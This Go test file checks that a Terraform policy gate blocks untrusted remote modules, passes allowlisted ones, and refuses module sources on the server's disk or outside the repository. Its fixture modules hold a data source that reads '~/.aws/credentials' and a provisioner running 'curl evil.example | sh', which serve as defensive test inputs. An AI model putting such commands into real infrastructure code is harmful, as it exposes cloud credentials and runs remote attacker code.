package policycheck

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/csocbot/csocbot/internal/gittest"
	"github.com/csocbot/csocbot/planner/detect"
	"github.com/csocbot/csocbot/planner/engine"
	"github.com/csocbot/csocbot/planner/gitrepo"
	"github.com/csocbot/csocbot/planner/tfrun"
	"github.com/csocbot/csocbot/policy"
)

// modulesRepo is a module catalog served over HTTP: an evil module that
// runs programs, needs an unknown provider and calls a local module of its
// own, and a clean one.
func modulesRepo(t *testing.T) *gittest.Served {
	t.Helper()
	r := gittest.New(t, "")
	r.Write("modules/evil/main.tf", `
terraform {
  required_providers {
    evil = { source = "evil-corp/evil" }
  }
}
data "external" "token" {
  program = ["sh", "-c", "cat ~/.aws/credentials"]
}
module "inner" {
  source = "../inner"
}
`)
	r.Write("modules/inner/main.tf", `
resource "terraform_data" "run" {
  provisioner "local-exec" {
    command = "curl evil.example | sh"
  }
}
`)
	r.Write("modules/clean/main.tf", "resource \"terraform_data\" \"ok\" {}\n")
	r.CommitAll("modules")
	r.Git("tag", "v1")
	return gittest.Serve(t, r)
}

// gateFixture is an infra repository whose units use remote modules,
// planned by an engine whose terraform only records that it was started.
type gateFixture struct {
	t        *testing.T
	repo     *gittest.Repo
	base     string
	modules  *gittest.Served
	engine   *engine.Engine
	cache    string
	started  string // the file the fake terraform writes
	policies *policy.Engine
}

// newGateFixture makes the fixture; allowData, when set, returns the
// policy set's data.json given the module catalog's URL.
func newGateFixture(t *testing.T, allowData func(modulesURL string) string) *gateFixture {
	t.Helper()
	f := &gateFixture{t: t, modules: modulesRepo(t), repo: gittest.New(t, ""), cache: t.TempDir()}
	f.repo.Write("README.md", "infra\n")
	f.base = f.repo.CommitAll("base")

	bin := t.TempDir()
	f.started = filepath.Join(bin, "started")
	script := "#!/bin/sh\necho \"$@\" >> " + f.started + "\nexit 1\n"
	if err := os.WriteFile(filepath.Join(bin, "terraform"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	var err error
	f.engine, err = engine.New(engine.Options{Binary: tfrun.Binary{Path: filepath.Join(bin, "terraform")}, CacheDir: f.cache, Parallelism: 1})
	if err != nil {
		t.Fatal(err)
	}

	set := t.TempDir()
	rule, err := os.ReadFile(filepath.Join("..", "..", "..", "policy", "library", "untrusted_code.rego"))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(set, "untrusted_code.rego"), rule, 0o644); err != nil {
		t.Fatal(err)
	}
	if allowData != nil {
		if err := os.WriteFile(filepath.Join(set, "data.json"), []byte(allowData(f.modules.URL)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	f.policies, err = policy.Load(context.Background(), []policy.Set{{Name: "gen3", Dir: set}})
	if err != nil {
		t.Fatal(err)
	}
	return f
}

// plan commits the change, detects its units and plans them with the
// policy gate, as the server does.
func (f *gateFixture) plan() (*engine.Run, *Checker, []detect.Unit) {
	f.t.Helper()
	ctx := context.Background()
	head := f.repo.CommitAll("change")
	g, err := gitrepo.Open(f.repo.Dir)
	if err != nil {
		f.t.Fatal(err)
	}
	defer g.Close()
	found, err := detect.New(g, detect.Options{Root: f.repo.Dir}).Detect(ctx, f.base, head)
	if err != nil {
		f.t.Fatal(err)
	}
	snap, err := g.Snapshot(ctx, head)
	if err != nil {
		f.t.Fatal(err)
	}
	c := New(f.policies, Options{
		PR:    policy.PR{Repo: "org/infra", ChangedFiles: ChangedFiles(found.Changes)},
		Files: snap, Modules: f.engine.ModuleReader(),
	})
	run, err := f.engine.Plan(ctx, engine.Request{
		Key: "test/" + head, Files: snap, Root: f.repo.Dir, Units: found.Units, Unevaluated: found.Errors, Gate: c.Gate,
	})
	if err != nil {
		f.t.Fatal(err)
	}
	return run, c, found.Units
}

func (f *gateFixture) result(run *engine.Run, unit string) *engine.Result {
	f.t.Helper()
	for _, r := range run.Results {
		if r.Path == unit {
			return r
		}
	}
	f.t.Fatalf("no result for %s in %+v", unit, run.Results)
	return nil
}

// terraformStarted reports whether the fake terraform ever ran.
func (f *gateFixture) terraformStarted() bool {
	_, err := os.Stat(f.started)
	return err == nil
}

func TestGateJudgesRemoteModules(t *testing.T) {
	f := newGateFixture(t, nil)
	evil := "git::" + f.modules.URL + "//modules/evil?ref=v1"
	f.repo.Write("live/app/terragrunt.hcl", "terraform {\n  source = \""+evil+"\"\n}\n")
	f.repo.Write("terraform/caller/main.tf", "module \"x\" {\n  source = \""+evil+"\"\n}\n")
	run, c, _ := f.plan()

	for unit, want := range map[string][]string{
		"live/app": {
			`data "external" "token" (from module source git::` + f.modules.URL + ` at "v1")`,
			`resource module.inner.terraform_data.run (from module source`,
			`the root module requires provider "evil" from "evil-corp/evil"`,
		},
		"terraform/caller": {
			`data "external" "token" (from module source`,
			`resource module.x.module.inner.terraform_data.run (from module source`,
			`module.x requires provider "evil"`,
		},
	} {
		r := f.result(run, unit)
		if r.Status != engine.Blocked {
			t.Errorf("%s: status %s (%v), want blocked", unit, r.Status, r.Err)
			continue
		}
		var msgs []string
		for _, res := range c.Of(unit).Results {
			if res.Rule == "untrusted_code" && res.Blocking() {
				msgs = append(msgs, res.Message)
			}
		}
		all := strings.Join(msgs, "\n")
		for _, w := range want {
			if !strings.Contains(all, w) {
				t.Errorf("%s: no denial containing %q in\n%s", unit, w, all)
			}
		}
	}
	if f.terraformStarted() {
		t.Error("terraform was started for a unit the gate blocked")
	}
}

func TestGatePassesAllowlistedRemoteModule(t *testing.T) {
	f := newGateFixture(t, func(url string) string {
		return `{"csocbot_allow": {"untrusted_code_sources": [{"source": "git::` + url + `", "versions": ["v1"]}]}}`
	})
	f.repo.Write("live/app/terragrunt.hcl", "terraform {\n  source = \"git::"+f.modules.URL+"//modules/evil?ref=v1\"\n}\n")
	f.repo.Write("terraform/clean/main.tf", "module \"x\" {\n  source = \"git::"+f.modules.URL+"//modules/clean?ref=v1\"\n}\n")
	run, _, _ := f.plan()
	for _, unit := range []string{"live/app", "terraform/clean"} {
		// Past the gate the fake terraform fails the unit.
		if r := f.result(run, unit); r.Status != engine.Failed || r.BlockReason != "" {
			t.Errorf("%s: status %s (%s), want it past the gate", unit, r.Status, r.BlockReason)
		}
	}
	if !f.terraformStarted() {
		t.Error("terraform never started for units the gate let through")
	}
}

func TestGateRefusesSourcesOnTheServer(t *testing.T) {
	f := newGateFixture(t, nil)
	secret := gittest.New(t, "")
	secret.Write("main.tf", "data \"external\" \"x\" {\n  program = [\"true\"]\n}\n")
	secret.CommitAll("secret")
	secret.Git("tag", "v1")
	f.repo.Write("live/file/terragrunt.hcl", "terraform {\n  source = \"git::file://"+secret.Dir+"?ref=v1\"\n}\n")
	f.repo.Write("terraform/file/main.tf", "module \"x\" {\n  source = \"git::file://"+secret.Dir+"?ref=v1\"\n}\n")
	f.repo.Write("terraform/abs/main.tf", "module \"x\" {\n  source = \""+secret.Dir+"\"\n}\n")
	f.repo.Write("terraform/escape/main.tf", "module \"x\" {\n  source = \"../../../outside\"\n}\n")
	run, c, units := f.plan()
	for unit, want := range map[string]string{
		"live/file":        "is not a network git URL",
		"terraform/file":   "terraform/file/main.tf:1: module \"x\"",
		"terraform/abs":    "is on the server's disk",
		"terraform/escape": "leaves the repository",
	} {
		r := f.result(run, unit)
		if r.Status != engine.Failed || !errors.Is(r.Err, engine.ErrUnsafeSource) || !strings.Contains(r.ErrorTail, want) {
			t.Errorf("%s: %s %v\n%s\nwant a refused source saying %q", unit, r.Status, r.Err, r.ErrorTail, want)
		}
	}
	// The gate refuses them too, before any rule runs.
	for _, u := range units {
		if err := c.Gate(context.Background(), u); !errors.Is(err, engine.ErrUnsafeSource) {
			t.Errorf("gate of %s: %v, want a refused source", u.Path, err)
		}
	}
	if len(units) != 4 {
		t.Errorf("detected %d units, want 4", len(units))
	}
	if entries, _ := os.ReadDir(filepath.Join(f.cache, "sources")); len(entries) != 0 {
		t.Errorf("something was cloned: %v", entries)
	}
	if f.terraformStarted() {
		t.Error("terraform was started for a refused source")
	}
}
